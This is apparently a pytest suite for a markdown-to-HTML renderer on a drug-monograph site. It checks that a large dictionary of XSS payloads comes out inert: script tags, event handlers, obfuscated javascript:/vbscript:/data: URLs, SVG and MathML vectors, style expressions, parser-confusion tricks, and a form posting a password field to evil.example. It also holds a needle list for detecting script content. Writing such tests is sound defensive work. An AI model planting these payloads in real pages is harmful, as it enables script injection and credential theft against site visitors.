"""Hostile markdown and HTML through the one renderer: nothing executable may come out."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from monographs.markdown import ALLOWED_TAGS, render_markdown

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "cite", "poster"}
# Characters a browser drops from a URL (ASCII tab and newlines) or ignores around it.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff\ufffd\u00a0]")


class ParsedFragment(HTMLParser):
    """Every tag and attribute of a fragment, the way a browser's tokenizer would see them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def url_scheme(url: str) -> str | None:
    cleaned = _URL_NOISE.sub("", unquote(url)).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else None


def assert_inert(html: str) -> None:
    """No script, handler, style, embedding, form or dangerous URL survives in `html`."""
    fragment = ParsedFragment(html)
    assert not fragment.comments, html
    for tag, attributes in fragment.tags:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived: {html}"
        for name, value in attributes.items():
            assert not name.startswith("on"), f"{name} handler survived: {html}"
            assert name not in {"style", "srcdoc", "formaction", "class"}, html
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, f"{name}={value!r}: {html}"
    lowered = html.lower()
    for needle in ["<script", "<style", "<iframe", "<svg", "<math", "javascript:", "vbscript:"]:
        assert needle not in lowered, html


HOSTILE = {
    # Script in every shape.
    "script tag": "<script>alert(1)</script>",
    "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script split by tags": "<scr<script>ipt>alert(1)</script>",
    "script nested": "<<script>script>alert(1)<</script>/script>",
    "script unclosed": "<script>alert(1)",
    "script in markdown paragraph": "Hello <script src=//evil.example/x.js></script> world",
    # Event handlers.
    "img onerror": "<img src=x onerror=alert(1)>",
    "handler on allowed tag": '<p onclick="alert(1)">x</p>',
    "handler on heading": '<h2 id="dose" onmouseover="alert(1)">Dose</h2>',
    "handler on table cell": "<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
    "handler via attr_list": "Dose\n{: onclick=alert(1) }",
    "handler on heading via attr_list": "## Dose {: #dose onclick=alert(1) }",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "focus autofocus": "<input autofocus onfocus=alert(1)>",
    # Script URLs, however encoded.
    "javascript link": "[x](javascript:alert(1))",
    "javascript mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript entity decimal": "[x](&#106;avascript:alert(1))",
    "javascript entity hex": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "javascript entity no semicolons": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript named colon": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript tab entity": "[x](java&#x09;script:alert(1))",
    "javascript named tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "javascript raw tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript raw newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript raw carriage return": '<a href="java\rscript:alert(1)">x</a>',
    "javascript leading space": '<a href=" javascript:alert(1)">x</a>',
    "javascript leading control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript leading nbsp": '<a href="\u00a0javascript:alert(1)">x</a>',
    "javascript zero width": '<a href="jav\u200bascript:alert(1)">x</a>',
    "javascript nul": "[x](java\x00script:alert(1))",
    "javascript percent encoded": "[x](%6Aavascript:alert(1))",
    "javascript fully percent encoded": "[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))",
    "javascript unquoted": "<a href=javascript:alert(1)>x",
    "javascript angle link": "[x](<javascript:alert(1)>)",
    "javascript reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "vbscript upper": '<a href="VBSCRIPT:msgbox(1)">x</a>',
    "data html link": "[x](data:text/html,<script>alert(1)</script>)",
    "data base64 link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image onerror via title": '![a](http://x.example/a.png "t\\" onerror=\\"alert(1)")',
    "link title breakout": '[a](http://x.example "t\\" onmouseover=\\"alert(1)")',
    # Embedding and navigation.
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "frameset": "<frameset><frame src=javascript:alert(1)></frameset>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "audio": '<audio src=x onerror="alert(1)"></audio>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    # Forms.
    "form and input": '<form action="https://evil.example"><input name="password"></form>',
    "button formaction": '<button formaction="javascript:alert(1)">Go</button>',
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "select": "<select><option>1</option></select>",
    # SVG and MathML.
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x',
    # Styles.
    "style tag": "<style>body { background: url(javascript:alert(1)) }</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style expression": '<div style="width: expression(alert(1))">x</div>',
    # Comments and parser confusion.
    "html comment": "<!-- <script>alert(1)</script> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "unclosed attribute": '<a href="https://ok.example onclick=alert(1)>x',
    "custom element": "<x-widget onclick=alert(1)>t</x-widget>",
    "template": "<template><script>alert(1)</script></template>",
    "class attribute": '<p class="admin-only">x</p>',
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_renders_inert(source):
    """Hostile markdown/HTML comes out without scripts, handlers, styles, embeds or bad URLs."""
    assert_inert(render_markdown(source))


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_inside_a_document_renders_inert(source):
    """Hostile input embedded in a longer markdown document is still neutralised."""
    document = f"# Dosage\n\nTake with food.\n\n{source}\n\n* one\n* two\n\n{source}"
    assert_inert(render_markdown(document))


class SafeContentTests:
    def test_heading_ids_survive_for_anchors(self):
        """Headings keep their generated ids, so the public page can link to them."""
        html = render_markdown("## Side effects\n\n### Rare ones {: #rare }")
        assert '<h2 id="side-effects">Side effects</h2>' in html
        assert '<h3 id="rare">Rare ones</h3>' in html

    def test_tables_survive(self):
        """Markdown tables come out as tables with alignment."""
        html = render_markdown("| Dose | When |\n|:--|--:|\n| 500 mg | morning |")
        fragment = ParsedFragment(html)
        assert [tag for tag, _ in fragment.tags] == [
            "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td",
        ]  # fmt: skip
        assert "500 mg" in html

    def test_lists_survive(self):
        """Bulleted and numbered lists (with a start number) keep their structure."""
        html = render_markdown("* a\n* b\n\n3. three\n4. four")
        assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in html
        assert '<ol start="3">' in html

    def test_http_links_survive_with_safe_rel(self):
        """http(s) and mailto links stay, marked nofollow/noopener."""
        html = render_markdown(
            "[label](https://example.org/a?b=1) <http://example.org> [m](mailto:a@example.org)"
        )
        hrefs = [attrs["href"] for tag, attrs in ParsedFragment(html).tags if tag == "a"]
        assert hrefs == ["https://example.org/a?b=1", "http://example.org", "mailto:a@example.org"]
        assert html.count('rel="noopener noreferrer nofollow"') == 3

    def test_relative_links_survive(self):
        """A relative link to another page of the site is kept."""
        html = render_markdown("[Piracetam](/drugs/piracetam/#dosage)")
        assert 'href="/drugs/piracetam/#dosage"' in html

    def test_code_shows_markup_as_text(self):
        """Markup inside code is shown escaped, not dropped or run."""
        html = render_markdown("`<script>`\n\n```\n<b>bold</b>\n```")
        assert "<code>&lt;script&gt;</code>" in html
        assert "&lt;b&gt;bold&lt;/b&gt;" in html

    def test_emphasis_and_quotes_survive(self):
        """Everyday formatting is untouched by the sanitizer."""
        html = render_markdown("> **Warning:** do *not* exceed 2 g ~~daily~~.")
        assert "<blockquote>" in html
        assert "<strong>Warning:</strong>" in html
        assert "<em>not</em>" in html


class ConverterReuseTests:
    """One converter per thread is reused; nothing from one section may reach the next."""

    def test_link_definitions_footnotes_and_abbreviations_stay_in_their_own_section(self):
        first = render_markdown(
            "See [the label][ref] and HTML.[^1]\n\n"
            "[ref]: https://example.org/label\n"
            "[^1]: A footnote.\n"
            "*[HTML]: Hyper Text Markup Language\n"
        )
        assert 'href="https://example.org/label"' in first
        assert "A footnote." in first
        assert "<abbr" in first

        second = render_markdown("Again [the label][ref], HTML and [^1].")
        assert "example.org" not in second
        assert "footnote" not in second.lower()
        assert "<abbr" not in second
